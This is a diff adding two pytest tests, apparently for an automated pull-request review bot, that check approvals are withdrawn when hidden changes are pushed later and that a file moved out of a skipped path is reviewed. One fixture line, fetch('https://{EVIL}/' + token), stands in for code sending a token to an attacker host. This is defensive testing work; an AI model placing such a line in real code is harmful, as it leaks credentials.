@@ -112,3 +112,34 @@ def test_all_hidden_changes_are_read_or_named(hiding: Stage, host: str) -> None:
 
     assert len(changes) >= 60
     assert _all_wrong(hiding, changes, host) == {}
+
+
+def test_hidden_changes_that_come_with_a_push_take_the_approval_back(hiding: Stage) -> None:
+    """Some of those that are not green, on top of a change of one word that was approved."""
+    changes = [each for each in hidden_changes(GOOD) if each.is_green is False][::_EVERY]
+    opened = []
+    for each in changes:
+        base = hiding.commit({"NOTES.md": "Some words.\n", **each.before, ".kodiai.yml": SETTINGS}, modes=each.modes[0])
+        head = hiding.commit({"NOTES.md": "Other words.\n"}, base)
+        opened.append(Opened(hiding, hiding.github.open_pull_request(head, base, title=each.name)))
+    hiding.settle()
+    assert {review["state"] for each in opened for review in each.reviews} == {"APPROVED"}
+
+    for each, at in zip(changes, opened, strict=True):
+        at.push(hiding.commit(each.after, at.head, modes=each.modes[1]))
+
+    green = [at for at in opened if at.check["conclusion"] == "success" or at.reviews[-1]["state"] == "APPROVED"]
+    assert [changes[opened.index(at)].name for at in green] == []
+
+
+def test_a_file_that_leaves_what_the_settings_skip_is_read(hiding: Stage) -> None:
+    """The first review approves, for nobody wants it read; then it moves to where it runs."""
+    base = hiding.commit({"NOTES.md": "Some words.\n", ".kodiai.yml": SETTINGS})
+    evil = f"fetch('https://{EVIL}/' + token)\n"
+    first = hiding.commit({"NOTES.md": "Other words.\n", f"{SKIPPED}a.js": evil}, base)
+    opened = Opened(hiding, hiding.github.open_pull_request(first, base))
+    hiding.settle()
+
+    opened.push(hiding.commit({f"{SKIPPED}a.js": None, "src/a.js": evil}, first))
+
+    assert [review["state"] for review in opened.reviews][-1] == "CHANGES_REQUESTED"
